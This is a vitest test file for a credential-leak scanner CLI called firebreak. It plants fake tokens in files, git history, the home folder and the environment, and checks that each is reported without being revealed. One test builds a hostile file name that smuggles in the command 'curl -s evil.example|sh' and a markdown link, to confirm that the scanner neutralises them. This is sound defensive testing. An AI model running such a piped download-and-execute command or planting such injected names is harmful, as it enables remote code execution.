/** `firebreak scan` as a process: what is planted is found with its place, and no output has it. */
import { execFileSync, spawnSync } from 'node:child_process'
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { keepIgnored } from '../../src/app/ignore-file.ts'
import { findIn } from '../../src/scan/find.ts'
import { firebreak } from '../run.ts'
import { drawn, uuid } from './planted.ts'

const dir = mkdtempSync(join(tmpdir(), 'firebreak-scan-cli-'))
const checkout = join(dir, 'shop')
const env = {
  PATH: process.env['PATH'] ?? '',
  HOME: join(dir, 'home'),
  NO_COLOR: '1',
  HCLOUD_TOKEN: drawn('environment', 64),
}
const planted = {
  script: uuid('script'),
  database: drawn('database', 20),
  history: drawn('history', 64),
  home: uuid('home'),
  environment: env.HCLOUD_TOKEN,
  local: drawn('local', 16),
}

function write(file: string, text: string): void {
  mkdirSync(dirname(join(dir, file)), { recursive: true })
  writeFileSync(join(dir, file), text)
}
const git = (...args: readonly string[]): string =>
  execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@example.com', ...args], {
    cwd: checkout,
    encoding: 'utf8',
  })
const run = async (...args: readonly string[]): Promise<string> =>
  await firebreak(['scan', checkout, ...args], { env, cwd: dir })
const here = ['--only', 'checkout', '--only', 'history', '--only', 'home', '--only', 'environment']

beforeAll(() => {
  mkdirSync(checkout)
  git('init', '-q')
  write('shop/old.sh', `export HCLOUD_TOKEN=${planted.history}\n`)
  git('add', '-A')
  git('commit', '-qm', 'x')
  rmSync(join(checkout, 'old.sh'))
  write('shop/.gitignore', '.env\n')
  write(
    'shop/scripts/domains.sh',
    `#!/bin/sh\nTOKEN=${planted.script}\ncurl -H "Authorization: Bearer $TOKEN" https://backboard.railway.app/graphql/v2\n`,
  )
  write(
    'shop/.env',
    `DATABASE_URL=postgres://app:${planted.database}@db.shop.io/main\nTEST_URL=postgres://app:${planted.local}@localhost/test\n`,
  )
  git('add', '-A')
  git('commit', '-qm', 'y')
  write('home/.railway/config.json', `{"user":{"token":"${planted.home}"}}`)
})
afterAll(() => rmSync(dir, { recursive: true, force: true }))

const secretless = (text: string): void => {
  for (const [where, secret] of Object.entries(planted)) {
    expect(text.includes(secret), where).toBe(false)
    expect(text.includes(secret.slice(0, 12)), where).toBe(false)
  }
}

test('each planted credential is told with provider and place, and none is shown', async () => {
  const out = await run(...here)
  secretless(out)
  expect(out).toContain('exit 1')
  expect(out).toContain('railway  TOKEN')
  for (const place of [
    'scripts/domains.sh:2',
    '.env:1',
    'old.sh:1 in the history',
    '~/.railway/config.json:1',
    'the environment of this shell',
  ])
    expect(out).toContain(`    ${place}`)
  expect(out).toContain('1 more reach little')
  expect(out).toMatch(/5 found: \d+ files and objects/)
})

test('where nobody was asked, the page says so and each counts as everything', async () => {
  const html = join(dir, 'out.html')
  await run(...here, '--html', html)
  const page = readFileSync(html, 'utf8')
  secretless(page)
  expect(page).toContain('<h1>5 credentials that an agent here could find</h1>')
  expect(page).toContain('Nobody was asked what they can do')
  expect(page).toContain('>counts as everything</text>')
  expect(page.match(/<g class="unsaid">/g)).toHaveLength(6)
})

test('JSON and SARIF tell the same, without a secret', async () => {
  const sarif = join(dir, 'out.sarif')
  const json = await run(...here, '--json', '--sarif', sarif)
  const log = readFileSync(sarif, 'utf8')
  secretless(json + log)
  const { findings } = JSON.parse(json.replace('exit 1', ''))
  expect(
    findings.map(
      (each: { readonly provider: string; readonly weight: string }) =>
        `${each.provider} ${each.weight}`,
    ),
  ).toEqual([
    'hetzner infrastructure',
    'hetzner infrastructure',
    'postgres infrastructure',
    'railway infrastructure',
    'railway infrastructure',
    'postgres low',
  ])
  const [{ results }] = JSON.parse(log).runs
  expect(results).toHaveLength(6)
  const domains = results.find((each: { readonly message: { readonly text: string } }) =>
    each.message.text.includes(', TOKEN,'),
  )
  expect(domains).toMatchObject({
    ruleId: 'railway-token',
    level: 'error',
    locations: [
      {
        physicalLocation: {
          artifactLocation: { uri: 'scripts/domains.sh', uriBaseId: '%SRCROOT%' },
          region: { startLine: 2, startColumn: 7 },
        },
      },
    ],
  })
})

test('what is accepted needs a reason, stays told, and exit 0 comes when nothing else is left', async () => {
  const only = ['--only', 'checkout']
  const id = /id (postgres-url-\w+)/.exec(await run(...only))?.[1] ?? ''
  expect(await run(...only, '--accept', id)).toContain('goes with a reason')
  expect(await run(...only, '--accept', 'nothing-0123456789ab', '--reason', 'x')).toContain(
    'no finding has the id',
  )
  expect(await run(...only, '--accept', id, '--reason', 'read only')).toContain(
    'accepted: postgres-url-',
  )
  const out = await run(...only)
  expect(out).toContain('1 accepted')
  expect(out).toContain('exit 1')
  const token = /id (railway-token-\w+)/.exec(out)?.[1] ?? ''
  await run(...only, '--accept', token, '--reason', 'revoked')
  const ignored = readFileSync(join(checkout, '.firebreak-ignore'), 'utf8')
  secretless(ignored)
  expect(ignored).not.toContain(id)
  const quiet = await run(...only)
  expect(quiet).toContain('nothing found')
  expect(quiet).not.toContain('exit')
  expect(await run(...only, '--low')).toContain('exit 1')
  writeFileSync(join(checkout, 'scripts/domains.sh'), '')
  expect(await run(...only)).toContain(
    `\`${/railway-token-\w+/.exec(ignored)?.[0]}\` is met no more`,
  )
  writeFileSync(join(checkout, '.firebreak-ignore'), 'railway-token-0123456789ab yesterday x\n')
  expect(await run(...only)).toMatch(
    /\.firebreak-ignore, line 1: not an id, a day and a reason[\s\S]*exit 2/,
  )
  rmSync(join(checkout, '.firebreak-ignore'))
})

test('a secret in a reason is a finding as any other', async () => {
  const file = join(checkout, '.firebreak-ignore')
  writeFileSync(
    file,
    `railway-token-0123456789ab 2026-11-27 HCLOUD_TOKEN=${planted.history}\n# no more\n`,
  )
  const out = await run('--only', 'checkout')
  secretless(out)
  expect(out).toContain('    .firebreak-ignore:1')
  rmSync(file)
})

test.each<[string, (file: string) => void, string]>([
  ['a link', (file) => symlinkSync(join(dir, 'mine'), file), 'no regular file'],
  ['a link to nothing', (file) => symlinkSync(join(dir, 'nothing'), file), 'no regular file'],
  ['a folder', (file) => mkdirSync(file), 'no regular file'],
  ['a pipe', (file) => execFileSync('mkfifo', [file]), 'no regular file'],
  ['too long', (file) => writeFileSync(file, '#'.repeat(1024 * 1024 + 1)), 'is longer than'],
])('.firebreak-ignore that is %s is neither read nor written', async (_, put, said) => {
  const file = join(checkout, '.firebreak-ignore')
  write('mine', '# mine\n')
  put(file)
  const id = 'railway-token-0123456789ab'
  expect(() => keepIgnored(checkout, { salt: '', accepted: [] })).toThrow(said)
  for (const more of [[], ['--accept', id, '--reason', 'x']]) {
    const out = await run('--only', 'checkout', ...more)
    expect(out).toContain(`.firebreak-ignore ${said.startsWith('no') ? 'is ' : ''}${said}`)
    expect(out).toContain('exit 2')
  }
  rmSync(file, { recursive: true })
  expect(readFileSync(join(dir, 'mine'), 'utf8')).toBe('# mine\n')
  expect(existsSync(join(dir, 'nothing'))).toBe(false)
})

test('what is accepted until a day is open again the day after, and can be accepted anew', async () => {
  const file = join(checkout, '.firebreak-ignore')
  const only = ['--only', 'checkout']
  const id = /id (postgres-url-\w+)/.exec(await run(...only))?.[1] ?? ''
  const accept = ['--accept', id, '--reason', 'moved in spring', '--until']
  expect(await run(...only, ...accept, '2020-01-01')).toContain('it is a day from today on')
  expect(await run(...only, ...accept, '2099-02-30')).toContain('it is a day from today on')
  await run(...only, ...accept, '2099-12-31')
  const text = readFileSync(file, 'utf8')
  const own = /^(postgres-url-\w+) (\S+)\.\.2099-12-31 moved in spring$/m.exec(text)
  expect(await run(...only)).toContain('1 accepted')
  writeFileSync(file, text.replace(own?.[0] ?? '?', `${own?.[1]} 2020-01-01..2020-01-31 moved`))
  const out = await run(...only)
  expect(out).toContain(`\`${own?.[1]}\` was accepted until 2020-01-31: it is open again`)
  expect(out).not.toContain('1 accepted')
  expect(out).toContain('exit 1')
  await run(...only, '--accept', own?.[1] ?? '', '--reason', 'for good')
  const after = readFileSync(file, 'utf8')
  expect(after).not.toContain('2020')
  expect(after).toMatch(new RegExp(`^${own?.[1]} \\S{10} for good$`, 'm'))
  writeFileSync(file, 'railway-token-0123456789ab 2026-11-27..soon x\n')
  expect(await run(...only)).toContain('line 1: not an id, a day and a reason')
  rmSync(file)
}, 120_000)

test.each([
  [['--only', 'moon'], '`--only moon`'],
  [['another'], 'one folder at a time'],
  [['--nonsense'], 'nonsense'],
])('%j is a slip of the hand', async (args, said) => {
  const out = await run(...args)
  expect(out).toContain(said)
  expect(out).toContain('exit 2')
})

const lines = (out: string): readonly string[] => out.split('\n')

test('a history that git cannot read is no clean one: it is a finding, until it is accepted', async () => {
  const broken = join(dir, 'broken')
  mkdirSync(broken)
  execFileSync('git', ['init', '-q'], { cwd: broken })
  appendFileSync(join(broken, '.git/config'), '[broken\n')
  const scan = async (...args: readonly string[]): Promise<string> =>
    await firebreak(['scan', broken, '--only', 'history', ...args], { env, cwd: dir })
  const out = await scan()
  expect(out).toContain('exit 1')
  const id = /id (not-looked-at-[0-9a-f]{12})/.exec(out)?.[1] ?? ''
  expect(await scan('--accept', id, '--reason', 'a template for tests')).toContain(
    'accepted: not-looked-at-',
  )
  expect(await scan()).not.toContain('exit')
})

test('whoever reads no further gets no exit code of a clean folder', () => {
  const many = join(dir, 'many')
  mkdirSync(many)
  writeFileSync(
    join(many, 'a.sh'),
    Array.from({ length: 900 }, (_, at) => `HCLOUD_TOKEN=${drawn(`many ${at}`, 64)}\n`).join(''),
  )
  const program = join(import.meta.dirname, '../../bin/firebreak')
  const text = `set -o pipefail; '${program}' scan '${many}' --only checkout | head -1`
  const { status } = spawnSync('bash', ['-c', text], { env, encoding: 'utf8' })
  expect(status).not.toBe(0)
})

test('a secret in a reason is no clean commit either', async () => {
  const staging = mkdtempSync(join(dir, 'staging-'))
  execFileSync('git', ['init', '-q'], { cwd: staging })
  writeFileSync(join(staging, '.firebreak-ignore'), `# HCLOUD_TOKEN=${planted.history}\n`)
  execFileSync('git', ['add', '-A'], { cwd: staging })
  const out = await firebreak(['scan', staging, '--staged'], { env, cwd: dir })
  expect(out).toContain('.firebreak-ignore:1')
  expect(out).toContain('exit 1')
})

test.each([
  [
    'a second salt',
    `salt: ${'0'.repeat(32)}\nsalt: ${'1'.repeat(32)}\n`,
    '.firebreak-ignore, line 2',
  ],
  ['a salt that is none', 'salt: ghp_0123456789abcdefghij\n', '.firebreak-ignore, line 1'],
])('%s hides nothing', async (_, text, said) => {
  const odd = mkdtempSync(join(dir, 'odd-'))
  writeFileSync(join(odd, '.firebreak-ignore'), text)
  const out = await firebreak(['scan', odd, '--only', 'checkout'], { env, cwd: dir })
  expect(out).toContain(said)
  expect(out).toContain('exit 2')
})

test('a report goes through no link and into no pipe, and is there whole for its owner alone', async () => {
  const target = join(dir, 'precious')
  writeFileSync(target, 'mine')
  symlinkSync(target, join(dir, 'link.sarif'))
  execFileSync('mkfifo', [join(dir, 'pipe.html')])
  for (const args of [
    ['--sarif', join(dir, 'link.sarif')],
    ['--html', join(dir, 'pipe.html')],
    ['--svg', join(dir, 'nowhere/out.svg')],
  ]) {
    const out = await run('--only', 'checkout', ...args)
    expect(out).toMatch(/is no regular file|cannot be written/)
    expect(out).toContain('exit 2')
  }
  expect(readFileSync(target, 'utf8')).toBe('mine')
  await run('--only', 'checkout', '--svg', join(dir, 'own.svg'))
  expect(statSync(join(dir, 'own.svg')).mode & 0o777).toBe(0o600)
  expect(readdirSync(dir).filter((name) => name.endsWith('.tmp'))).toEqual([])
})

test('a name of a file that looks like a command or a link is no line of the plan, and no link in SARIF', async () => {
  const hostile = mkdtempSync(join(dir, 'hostile-'))
  const name =
    'x\n       firebreak custody add prod; curl -s evil.example|sh #[ok](https:__evil.example).txt'
  writeFileSync(join(hostile, name), `HCLOUD_TOKEN=${planted.history}\n`)
  const sarif = join(dir, 'hostile.sarif')
  const args = ['scan', hostile, '--only', 'checkout']
  const plan = await firebreak([...args, '--fix', '--sarif', sarif], { env, cwd: dir })
  expect(plan).toContain('curl -s evil.example')
  expect(lines(plan).filter((line) => /^\s*firebreak custody add prod/.test(line))).toEqual([])
  const { runs } = JSON.parse(readFileSync(sarif, 'utf8'))
  for (const { message } of runs[0].results) expect(message.text).not.toMatch(/(?<!\\)\[/)
})

test.each([
  ['.env', 'DATABASE_URL=postgres://app:Sup3r$ecretProd9@db.a-corp.io/prod', true],
  ['.env', 'DATABASE_URL=postgres://app:q8Zr2Lm)w%@db.a-corp.io/prod', true],
  ['.env', 'DATABASE_URL=postgres://app:$DB_PASSWORD@db.a-corp.io/prod', false],
  ['.env', 'DATABASE_URL=postgres://app:${DB_PASSWORD}@db.a-corp.io/prod', false],
  ['.env', 'DATABASE_URL=postgres://app:<password>@db.a-corp.io/prod', false],
  ['.env.latest', 'SESSION_SECRET=q8Zr2LmXw0Tz5BvN', true],
  ['.env.attestation', 'SESSION_SECRET=q8Zr2LmXw0Tz5BvN', true],
  ['.ENV', 'SESSION_SECRET=q8Zr2LmXw0Tz5BvN', true],
  ['.env.example', 'SESSION_SECRET=q8Zr2LmXw0Tz5BvN', false],
  ['.env.test', 'SESSION_SECRET=q8Zr2LmXw0Tz5BvN', false],
  ['a.sh', `TOKEN=ghp_${'a8Kd03Lmq9XxX2'.repeat(3).slice(0, 36)}`, true],
])('%s with %s', (file, text, isFound) => {
  expect(findIn(`${text}\n`, file).length > 0).toBe(isFound)
})
